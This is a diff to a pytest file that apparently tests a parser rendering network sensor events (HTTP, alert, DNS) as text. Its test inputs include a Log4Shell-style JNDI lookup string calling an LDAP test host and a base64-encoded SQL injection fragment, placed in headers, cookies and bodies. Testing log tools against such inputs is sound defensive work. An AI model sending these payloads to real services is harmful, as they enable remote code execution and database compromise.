@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import base64
 import gzip
 import json
 from collections import Counter
@@ -45,6 +46,43 @@ def test_headers_are_in_the_text_where_they_are_dumped_and_unusual(read) -> None
     assert event["text"] == "HTTP GET / headers=x-api-version: ${jndi:ldap://a.test}"
     event = one(read, "http", http={"url": "/", "http_method": "GET", "request_headers": "none"})
     assert event["text"] == "HTTP GET /"
+
+
+JNDI = "${jndi:ldap://a.test}"
+BASE64 = base64.b64encode(b"id=1' or \xff").decode()
+GET = {"url": "/", "http_method": "GET"}
+
+
+@pytest.mark.parametrize(
+    ("http", "text"),
+    [
+        ({"xff": JNDI, "accept_language": "de"}, f"headers=xff: {JNDI}"),
+        ({"authorization": JNDI, "http_content_type": "text/<x>", "server": "<x>"}, f"headers=authorization: {JNDI}"),
+        ({"request_headers": [{"name": "Cookie", "value": JNDI}]}, f"cookie={JNDI}"),
+        ({"http_request_body": BASE64}, "body=id=1' or \\xff"),
+        ({"http_request_body": BASE64, "http_request_body_printable": "id=1"}, "body=id=1"),
+        ({"http_request_body": "not base64'"}, "body=not base64'"),
+    ],
+)
+def test_whatever_a_client_sent_is_in_the_text(read, http: dict[str, Any], text: str) -> None:
+    assert one(read, "http", http=GET | http)["text"] == f"HTTP GET / {text}"
+
+
+def test_an_alert_without_a_request_has_its_payload(read) -> None:
+    alert = {"signature": "s"}
+    for payload, text in (
+        ({"payload_printable": JNDI, "payload": BASE64}, JNDI),
+        ({"payload": BASE64}, "id=1' or \\xff"),
+    ):
+        assert one(read, "alert", alert=alert, **payload)["text"].endswith(f" port=80 payload={text}")
+    assert one(read, "alert", alert=alert, http=GET, payload=BASE64)["text"].endswith(" HTTP GET /")
+
+
+def test_of_several_questions_the_first_is_told_and_the_others_are_marked(read) -> None:
+    asked = [{"rrname": name, "rrtype": "A"} for name in ("a.test", "b.test")]
+    for questions in (asked[:1], asked):
+        event = one(read, "dns", dns={"version": 3, "type": "request", "queries": questions})
+        assert (event["query"], event["overflow"]) == ("a.test", len(questions) > 1)
 
 
 ANSWERS = [{"rrname": "a.test", "rrtype": "CNAME", "ttl": 900, "rdata": "b.test"}, {"ttl": 60, "rdata": "192.0.2.9"}]
